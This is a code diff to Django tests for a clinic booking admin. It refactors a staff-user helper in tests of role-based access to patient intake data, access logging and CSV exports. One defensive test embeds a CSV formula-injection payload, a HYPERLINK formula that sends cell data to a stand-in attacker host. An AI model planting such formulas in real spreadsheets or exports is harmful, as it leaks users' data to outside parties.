@@ -4,22 +4,15 @@ import csv
 import io
 
 import pytest
-from django.contrib.auth.models import Group, User
 from django.urls import reverse
 from django.utils import timezone
 
 from scheduling.models import Booking, IntakeAccess
 from scheduling.services.booking import Patient
 from tests.scheduling.conftest import book, first_slot
+from tests.users import make_staff
 
 pytestmark = pytest.mark.django_db
-
-
-def staff(name, group=None, superuser=False):
-    user = User.objects.create_user(name, password="x", is_staff=True, is_superuser=superuser)
-    if group:
-        user.groups.add(Group.objects.get(name=group))
-    return user
 
 
 @pytest.fixture
@@ -33,7 +26,7 @@ def change_page(client, user, booking):
 
 
 def test_front_desk_sees_the_booking_but_not_the_intake(client, booking):
-    response = change_page(client, staff("desk", "Front desk"), booking)
+    response = change_page(client, make_staff("desk", "Front desk"), booking)
     assert response.status_code == 200
     assert b"Pat Example" in response.content
     assert b"Sore back" not in response.content
@@ -41,7 +34,7 @@ def test_front_desk_sees_the_booking_but_not_the_intake(client, booking):
 
 
 def test_clinicians_see_the_intake_and_each_view_is_logged(client, booking):
-    clinician = staff("clin", "Clinicians")
+    clinician = make_staff("clin", "Clinicians")
     response = change_page(client, clinician, booking)
     assert b"Sore back" in response.content
     change_page(client, clinician, booking)
@@ -50,22 +43,22 @@ def test_clinicians_see_the_intake_and_each_view_is_logged(client, booking):
 
 
 def test_content_editors_see_no_bookings(client, booking):
-    editor = staff("editor")
+    editor = make_staff("editor", "Content editors")
     assert change_page(client, editor, booking).status_code == 403
 
 
 def test_only_administrators_read_the_intake_access_log(client, booking):
-    change_page(client, staff("clin", "Clinicians"), booking)
+    change_page(client, make_staff("clin", "Clinicians"), booking)
     url = reverse("admin:scheduling_intakeaccess_changelist")
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     assert client.get(url).status_code == 403
-    client.force_login(staff("admin", superuser=True))
+    client.force_login(make_staff("admin", superuser=True))
     assert b"clin" in client.get(url).content
 
 
 def test_actions_mark_completed_and_no_show(client, booking, service, therapist):
     other = book(service, therapist, first_slot(service, therapist, after=booking.end).start)
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     url = reverse("admin:scheduling_booking_changelist")
     client.post(url, {"action": "mark_completed", "_selected_action": [booking.pk]})
     client.post(url, {"action": "mark_no_show", "_selected_action": [other.pk]})
@@ -74,7 +67,7 @@ def test_actions_mark_completed_and_no_show(client, booking, service, therapist)
 
 
 def test_search_filters_schedule_and_csv_of_a_day(client, booking):
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     url = reverse("admin:scheduling_booking_changelist")
     assert b"Pat Example" in client.get(url, {"q": "pat@example"}).content
     assert b"Pat Example" in client.get(url, {"needs_review__exact": "0"}).content
@@ -90,7 +83,7 @@ def test_search_filters_schedule_and_csv_of_a_day(client, booking):
 
 
 def test_working_hours_and_time_off_are_inline_on_the_therapist(client, therapist):
-    client.force_login(staff("admin", superuser=True))
+    client.force_login(make_staff("admin", superuser=True))
     page = client.get(reverse("admin:scheduling_therapist_change", args=[therapist.pk]))
     assert b"hours-TOTAL_FORMS" in page.content and b"time_off-TOTAL_FORMS" in page.content
 
@@ -107,7 +100,7 @@ def test_working_hours_and_time_off_are_inline_on_the_therapist(client, therapis
     ],
 )
 def test_front_desk_cannot_guess_the_intake_by_filtering(client, booking, lookup):
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     url = reverse("admin:scheduling_booking_changelist")
     for guess in ["sore", "yes", "dvt", "zzz-nothing"]:
         response = client.get(url, {lookup: guess})
@@ -116,7 +109,7 @@ def test_front_desk_cannot_guess_the_intake_by_filtering(client, booking, lookup
 
 
 def test_front_desk_cannot_guess_the_intake_through_the_email_log(client, booking):
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     url = reverse("admin:scheduling_bookingemail_changelist")
     for guess in ["sore", "zzz"]:
         response = client.get(url, {"booking__intake__reason__icontains": guess})
@@ -124,7 +117,7 @@ def test_front_desk_cannot_guess_the_intake_through_the_email_log(client, bookin
 
 
 def test_front_desk_filters_still_work(client, booking):
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     url = reverse("admin:scheduling_booking_changelist")
     start = timezone.localtime(booking.start)
     for params in [
@@ -136,7 +129,7 @@ def test_front_desk_filters_still_work(client, booking):
 
 
 def test_clinicians_may_filter_on_the_intake(client, booking):
-    client.force_login(staff("clin", "Clinicians"))
+    client.force_login(make_staff("clin", "Clinicians"))
     url = reverse("admin:scheduling_booking_changelist")
     assert b"Pat Example" in client.get(url, {"intake__reason__icontains": "sore"}).content
 
@@ -145,7 +138,7 @@ def test_csv_exports_keep_typed_formulas_as_text(client, service, therapist):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     patient = Patient(name=formula, email="@SUM(1+1)@example.com", phone="+1 541 555 0100")
     booking = book(service, therapist, first_slot(service, therapist).start, patient=patient)
-    client.force_login(staff("desk", "Front desk"))
+    client.force_login(make_staff("desk", "Front desk"))
     day = timezone.localtime(booking.start).date().isoformat()
     exports = [
         client.get(reverse("admin:scheduling_booking_export_day"), {"date": day}),
@@ -164,10 +157,10 @@ def test_csv_exports_keep_typed_formulas_as_text(client, service, therapist):
 
 
 def test_the_intake_access_log_outlives_a_deleted_booking(client, booking):
-    clinician = staff("clin", "Clinicians")
+    clinician = make_staff("clin", "Clinicians")
     change_page(client, clinician, booking)
     number = booking.pk
-    client.force_login(staff("admin", superuser=True))
+    client.force_login(make_staff("admin", superuser=True))
     delete_url = reverse("admin:scheduling_booking_delete", args=[booking.pk])
     assert client.post(delete_url, {"post": "yes"}).status_code == 302
     assert not Booking.objects.filter(pk=number).exists()
@@ -179,7 +172,7 @@ def test_the_intake_access_log_outlives_a_deleted_booking(client, booking):
 
 
 def test_deleting_a_booking_in_code_keeps_its_intake_access_log(client, booking):
-    change_page(client, staff("clin", "Clinicians"), booking)
+    change_page(client, make_staff("clin", "Clinicians"), booking)
     Booking.objects.filter(pk=booking.pk).delete()
     assert IntakeAccess.objects.get().booking_number == booking.pk
 
